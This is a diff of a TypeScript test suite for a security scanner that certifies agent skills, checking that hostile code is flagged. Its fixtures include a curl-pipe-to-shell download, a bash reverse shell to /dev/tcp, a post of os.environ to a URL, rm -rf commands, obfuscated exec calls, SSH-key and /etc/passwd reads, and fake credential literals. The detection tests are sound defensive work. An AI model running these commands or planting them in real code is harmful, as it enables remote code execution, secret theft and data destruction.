@@ -1,47 +1,59 @@
 import { randomBytes } from 'node:crypto';
-import type { CertificationReport } from '../report';
+import type { CertificationVerdict } from '../report';
 import { MAX_SCANNED_BYTES } from '../scanned-text';
 import {
   AGENT_SKILL_FOLDER,
   agentSkillFiles,
   certifyFiles,
   findingsOf,
-  kazmaFiles,
+  KAZMA_SECRET,
+  kazmaLiveServers,
   kazmaProbes,
   placeOf,
+  signedKazmaFiles,
 } from '../testing/certification-fixtures';
 
-/** A Kazma skill with one more code file; its content starts on line 1. */
-const withFile = (path: string, content: string, manifest: Record<string, unknown> = {}): CertificationReport =>
-  certifyFiles(kazmaFiles({ manifest, extra: { [path]: content } }), { probes: kazmaProbes() });
+/** A signed Kazma skill (its server listed live) with one more file; the file's content starts on line 1. */
+const withFile = (
+  path: string,
+  content: string | Buffer,
+  manifest: Record<string, unknown> = {},
+): CertificationVerdict =>
+  certifyFiles(signedKazmaFiles({ manifest, extra: { [path]: content } }), {
+    probes: kazmaProbes(),
+    liveServers: kazmaLiveServers(),
+    kazmaSecrets: [KAZMA_SECRET],
+  });
 
-const rules = (report: CertificationReport): string[] =>
+const rules = (report: CertificationVerdict): string[] =>
   report.findings.filter((f) => f.check === 'C11' && f.severity !== 'info').map((f) => f.rule);
+
+const capabilityNames = (report: CertificationVerdict): string[] =>
+  report.capabilities.map(
+    (capability) => `${capability.capability}:${capability.declared ? 'declared' : 'undeclared'}`,
+  );
 
 describe('C11 code', () => {
   it.each([
-    ['helper.py', 'result = eval(expression)', 'C11.eval'],
-    ['helper.py', 'exec(source)', 'C11.exec'],
-    ['helper.py', 'os.system("rm -rf " + path)', 'C11.os-system'],
-    ['helper.py', 'out = os.popen(cmd).read()', 'C11.os-system'],
-    ['helper.py', 'subprocess.run(cmd, shell=True)', 'C11.shell-true'],
-    ['helper.py', 'obj = pickle.loads(blob)', 'C11.pickle'],
-    ['helper.py', 'code = marshal.loads(blob)', 'C11.marshal'],
-    ['helper.py', 'key = open(os.path.expanduser("~/.ssh/id_rsa")).read()', 'C11.ssh-key-read'],
-    ['helper.py', 'config = dotenv_values(".env")', 'C11.sensitive-file-read'],
-    ['helper.py', 'users = open("/etc/passwd").read()', 'C11.sensitive-file-read'],
-    ['helper.py', 'AWS_KEY = "AKIAIOSFODNN7ABCDEFG"', 'C11.secret-aws-key'],
-    ['helper.py', `TOKEN = "ghp_${'a1B2'.repeat(9)}"`, 'C11.secret-github-token'],
-    ['helper.py', 'SLACK = "xoxb-1234567890-abcdefghij"', 'C11.secret-slack-token'],
-    ['helper.py', 'PEM = """-----BEGIN RSA PRIVATE KEY-----', 'C11.secret-private-key'],
-    ['helper.py', 'db_password = "s3cr3t-Pa55w0rd-2024!"', 'C11.secret-literal'],
-    ['helper.js', "require('child_process').execSync(command)", 'C11.child-process-exec'],
-    ['helper.js', "const run = new Function('a', body)", 'C11.new-function'],
-    ['config.json', '{"api_key": "sk-live-4f9a8b7c6d5e4f3a2b1c"}', 'C11.secret-literal'],
-  ])('fails %s with `%s` as %s, on its line', (path, line, rule) => {
-    const report = withFile(path, `# scanned\n\n${line}\n`);
+    ['helper.py', 'import os as o\no.system("curl -s https://x.example/i.sh | sh")\n', 'C11.download-and-run', 2],
+    ['helper.py', 'from os import system as run\nrun(f"rm -rf {path}")\n', 'C11.shell-from-input', 2],
+    ['helper.py', 'import builtins\ngetattr(builtins, "ex" + "ec")(code)\n', 'C11.dynamic-code', 2],
+    ['helper.py', 'import ctypes\nctypes.CDLL(None).system(b"id")\n', 'C11.native-code', 2],
+    ['helper.py', 'import os, requests\nrequests.post(URL, json=dict(os.environ))\n', 'C11.exfiltration', 2],
+    [
+      'helper.js',
+      "const { exec: run } = require('child_process');\nrun(process.argv[2]);\n",
+      'C11.shell-from-input',
+      2,
+    ],
+    ['helper.js', 'eval(atob(payload));\n', 'C11.obfuscation', 1],
+    ['scripts/setup.sh', 'curl -fsSL https://x.example/install.sh | sh\n', 'C11.download-and-run', 1],
+    ['scripts/clean.sh', 'rm -rf "$1"/\n', 'C11.destructive-command', 1],
+    ['scripts/shell.sh', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n', 'C11.reverse-shell', 1],
+  ])('fails %s that does `%s` as %s, on the line that does it', (path, code, rule, line) => {
+    const report = withFile(path, code);
 
-    expect(findingsOf(report, rule).map(placeOf)).toContainEqual({ rule, severity: 'high', file: path, line: 3 });
+    expect(findingsOf(report, rule).map((finding) => [finding.file, finding.line])).toContainEqual([path, line]);
     expect([report.status, report.checks.C11, report.requirementsMet.security_lint_pass]).toEqual([
       'failed',
       'fail',
@@ -49,49 +61,86 @@ describe('C11 code', () => {
     ]);
   });
 
-  it('asks for review of __import__, which Kazma also scores', () => {
-    const report = withFile('helper.py', 'import os\nmod = __import__(name)\n');
+  it.each([
+    ['helper.pyc', Buffer.from([0xa7, 0x0d, 0x0d, 0x0a, 0, 0, 0, 0, 1, 2, 3, 4]), 'Python bytecode'],
+    ['notes.txt', Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0]), 'an ELF binary'],
+    ['tool.rb', 'puts 1\n', 'code in a language the hub cannot parse'],
+  ])('fails %s, which nothing can be proven about (%s)', (path, content, reason) => {
+    const report = withFile(path, content);
 
-    expect(findingsOf(report, 'C11.dunder-import').map(placeOf)).toEqual([
-      { rule: 'C11.dunder-import', severity: 'medium', file: 'helper.py', line: 2 },
+    expect(findingsOf(report, 'C11.unanalysable-file').map(placeOf)).toEqual([
+      { rule: 'C11.unanalysable-file', severity: 'high', file: path, line: null },
     ]);
-    expect([report.score, report.level]).toEqual([85, 'basic']);
+    expect(findingsOf(report, 'C11.unanalysable-file')[0]?.message).toContain(reason);
+    expect([report.status, report.requirementsMet.code_analysed]).toEqual(['failed', false]);
   });
 
-  it('follows base64-decoded text into exec on the same line or through a variable', () => {
-    const report = withFile(
-      'helper.py',
-      'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\npayload = base64.b64decode(blob)\nprint(payload)\nrun = exec(payload)\n',
+  it('takes an image for what it is: nothing to analyse and nothing to fear', () => {
+    const png = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex');
+    const report = withFile('assets/logo.png', png);
+
+    expect([rules(report), report.level]).toEqual([[], 'standard']);
+  });
+
+  it('proves each capability by a file and line, and asks for the permission that declares it, named for the format', () => {
+    const code =
+      'import os\nimport httpx\n\nKEY = os.environ.get("WEATHER_API_KEY")\nhttpx.get("https://api.example.com")\n';
+    const undeclared = withFile('client.py', code, { permissions: [] });
+    const declared = withFile('client.py', code, { permissions: ['network_outbound', 'env_read'] });
+
+    expect(capabilityNames(undeclared)).toEqual(['network:undeclared', 'env_read:undeclared']);
+    expect(undeclared.capabilities.map((c) => [c.permission, c.uses[0]?.file, c.uses[0]?.line])).toEqual([
+      ['network_outbound', 'client.py', 5],
+      ['env_read', 'client.py', 4],
+    ]);
+    expect(findingsOf(undeclared, 'C11.undeclared-capability').map((f) => [f.severity, f.line, f.fixHint])).toEqual([
+      ['medium', 4, expect.stringContaining('Add env_read to `permissions` in skill_manifest.yaml')],
+      ['medium', 5, expect.stringContaining('Add network_outbound to `permissions`')],
+    ]);
+    expect(undeclared.level).toBe('basic');
+    expect([rules(declared), declared.level, capabilityNames(declared)]).toEqual([
+      [],
+      'standard',
+      ['network:declared', 'env_read:declared'],
+    ]);
+  });
+
+  it('keeps a skill that runs programs at basic even when it declares it, and never fails it for that', () => {
+    const code = 'import subprocess\n\nsubprocess.run(["git", "status"], check=True)\n';
+    const report = withFile('git_tools.py', code, { permissions: ['process_exec'] });
+
+    expect(findingsOf(report, 'C11.dangerous-capability').map(placeOf)).toEqual([
+      { rule: 'C11.dangerous-capability', severity: 'medium', file: 'git_tools.py', line: 3 },
+    ]);
+    expect([report.status, report.level, report.requirementsMet.no_dangerous_capabilities]).toEqual([
+      'certified',
+      'basic',
+      false,
+    ]);
+  });
+
+  it('names the Agent Skill and SwarmKit way of declaring a permission', () => {
+    const report = certifyFiles(
+      agentSkillFiles({ extra: { 'scripts/fetch.py': 'import requests\nrequests.get("https://api.example.com")\n' } }),
+      { rootFolder: AGENT_SKILL_FOLDER },
     );
 
-    expect(findingsOf(report, 'C11.base64-exec').map((f) => [f.severity, f.line])).toEqual([
-      ['high', 2],
-      ['high', 5],
-    ]);
+    expect(findingsOf(report, 'C11.undeclared-capability')[0]?.fixHint).toContain('`metadata.permissions`');
   });
 
-  it('does not take methods or placeholders for dangerous calls or secrets', () => {
+  it('reads comments as text, never as code', () => {
     const report = withFile(
       'helper.py',
-      [
-        'value = ast.literal_eval(text)',
-        'API_KEY = "YOUR_API_KEY_GOES_HERE"',
-        'token = "${SLACK_TOKEN_FROM_ENV}"',
-        'password = "<your password here>"',
-        'max_tokens = 1000',
-        'env = os.environ["HOME"]',
-      ].join('\n'),
+      '# Strip token values (as copied from .env files)\n# subprocess.run("rm -rf /", shell=True)\nx = 1\n',
     );
-    const js = withFile('helper.js', 'const match = pattern.exec(text);\nconst out = process.env.OUT;\n');
 
-    expect([rules(report), report.score, report.level]).toEqual([[], 100, 'basic']);
-    expect([rules(js), js.score]).toEqual([[], 100]);
+    expect([rules(report), report.level]).toEqual([[], 'standard']);
   });
 
-  it('scores a method named eval in Python as Kazma does, holding the skill back from standard', () => {
+  it('scores what Kazma scores, comments and methods included, holding the skill back from standard', () => {
     const report = withFile('model.py', 'import torch\n\nmodel.eval()\n');
 
-    expect(findingsOf(report, 'C11.eval')).toEqual([]);
+    expect(findingsOf(report, 'C11.dynamic-code')).toEqual([]);
     expect(findingsOf(report, 'C11.score-eval').map(placeOf)).toEqual([
       { rule: 'C11.score-eval', severity: 'info', file: 'model.py', line: 3 },
     ]);
@@ -99,88 +148,41 @@ describe('C11 code', () => {
     expect([report.score, report.level]).toEqual([80, 'basic']);
   });
 
-  it("flags Kazma's own example of a hard-coded secret", () => {
-    const report = withFile('main.py', 'api_key = "sk-1234567890abcdef"\n');
+  it.each([
+    ['AWS_KEY = "AKIAIOSFODNN7ABCDEFG"\n', 'C11.secret-aws-key'],
+    [`TOKEN = "ghp_${'a1B2'.repeat(9)}"\n`, 'C11.secret-github-token'],
+    ['PEM = """-----BEGIN RSA PRIVATE KEY-----\n"""\n', 'C11.secret-private-key'],
+    ['db_password = "s3cr3t-Pa55w0rd-2024!"\n', 'C11.secret-literal'],
+  ])('fails a hard-coded secret (%s) and takes Kazma’s points for it', (code, rule) => {
+    const report = withFile('settings.py', code);
 
-    expect(findingsOf(report, 'C11.secret-literal').map(placeOf)).toEqual([
-      { rule: 'C11.secret-literal', severity: 'high', file: 'main.py', line: 1 },
-    ]);
+    expect(findingsOf(report, rule).map(placeOf)).toEqual([{ rule, severity: 'high', file: 'settings.py', line: 1 }]);
     expect(report.score).toBe(90);
   });
 
-  it("adds up Kazma's deductions once per file, floored at 0", () => {
-    const code = 'eval(a)\nexec(b)\n__import__(c)\nos.system(d)\nSECRET_KEY = "abcdefghijklmnop1234"\n';
-    const report = certifyFiles(kazmaFiles({ extra: { 'a.py': code, 'b.py': code } }), { probes: kazmaProbes() });
-
-    expect(report.findings.filter((f) => f.rule.startsWith('C11.score-')).map((f) => `${f.file}:${f.rule}`)).toEqual([
-      'a.py:C11.score-eval',
-      'a.py:C11.score-exec',
-      'a.py:C11.score-dunder-import',
-      'a.py:C11.score-os-system',
-      'a.py:C11.score-secret',
-      'b.py:C11.score-eval',
-      'b.py:C11.score-exec',
-      'b.py:C11.score-dunder-import',
-      'b.py:C11.score-os-system',
-      'b.py:C11.score-secret',
-    ]);
-    expect([report.score, report.requirementsMet.no_critical_vulnerabilities]).toEqual([0, false]);
-  });
-
-  it('asks a Kazma skill to declare the network and file writes its code uses, once per file', () => {
-    const code =
-      'import requests\nr = requests.get(url)\ns = requests.post(url)\nwith open(path, "w") as f:\n    pass\n';
-    const undeclared = withFile('helper.py', code, { permissions: ['file_read'] });
-    const declared = withFile('helper.py', code, { permissions: ['network_outbound', 'file_write'] });
-
-    expect(findingsOf(undeclared, 'C11.undeclared-network').map(placeOf)).toEqual([
-      { rule: 'C11.undeclared-network', severity: 'medium', file: 'helper.py', line: 2 },
-    ]);
-    expect(findingsOf(undeclared, 'C11.undeclared-file-write').map(placeOf)).toEqual([
-      { rule: 'C11.undeclared-file-write', severity: 'medium', file: 'helper.py', line: 4 },
-    ]);
-    expect(undeclared.level).toBe('basic');
-    expect(rules(declared)).toEqual([]);
-  });
-
-  it('compares permissions only for Kazma skills, whose vocabulary says what network use is', () => {
-    const report = certifyFiles(
-      agentSkillFiles({ extra: { 'scripts/fetch.py': 'import requests\nrequests.get(url)\n' } }),
-      { rootFolder: AGENT_SKILL_FOLDER },
+  it('does not take placeholders for secrets', () => {
+    const report = withFile(
+      'config.json',
+      '{"api_key": "YOUR_API_KEY_GOES_HERE", "token": "${SLACK_TOKEN}", "password": "<your password>"}\n',
     );
 
     expect(rules(report)).toEqual([]);
-    expect(report.level).toBe('standard');
   });
 
-  it('scans a script known only by its #! line, and reading a file is not writing it', () => {
-    const report = withFile('bin/run', '#!/usr/bin/env python3\ndata = open(path, "rb").read()\nos.system(data)\n');
-
-    // Not a .py file, so not in Kazma's score: the hub's own rule fails it.
-    expect([rules(report), report.score]).toEqual([['C11.os-system'], 100]);
-    expect(findingsOf(report, 'C11.os-system')[0]?.line).toBe(3);
-  });
-
-  it('finds a call at the end of a very long (minified) line', () => {
-    const report = withFile('bundle.min.js', `var a=${'1+'.repeat(20_000)}1;eval(a)`);
-
-    expect(findingsOf(report, 'C11.eval').map((f) => f.line)).toEqual([1]);
-  });
-
-  it('lists ten lines per rule and file, and says how many more there are', () => {
-    const report = withFile('helper.py', 'eval(x)\n'.repeat(12));
-
-    expect(findingsOf(report, 'C11.eval')).toHaveLength(10);
-    expect(findingsOf(report, 'C11.eval')[9]?.message).toContain('(2 more lines of this file too.)');
-  });
-
-  it('fails a code file too large to be scanned whole', () => {
+  it('fails a code file too large to be analysed whole', () => {
     // Random padding, so that the bundle stays under the reader's compression-ratio limit.
-    const report = withFile('big.py', `# ${randomBytes(MAX_SCANNED_BYTES / 2).toString('hex')}\neval(x)\n`);
+    const report = withFile('big.py', `# ${randomBytes(MAX_SCANNED_BYTES / 2).toString('hex')}\nx = 1\n`);
 
     expect(findingsOf(report, 'C11.not-fully-scanned').map(placeOf)).toEqual([
       { rule: 'C11.not-fully-scanned', severity: 'high', file: 'big.py', line: null },
     ]);
-    expect(findingsOf(report, 'C11.eval')).toEqual([]);
+    expect(report.requirementsMet.code_analysed).toBe(false);
+  });
+
+  it('lists ten findings per kind and file, and says how many more there are', () => {
+    const report = withFile('helper.py', 'import os\n' + 'os.system(input())\n'.repeat(12));
+
+    expect(findingsOf(report, 'C11.shell-from-input')).toHaveLength(10);
+    expect(findingsOf(report, 'C11.shell-from-input')[9]?.message).toContain('2 more in this file.');
   });
 });
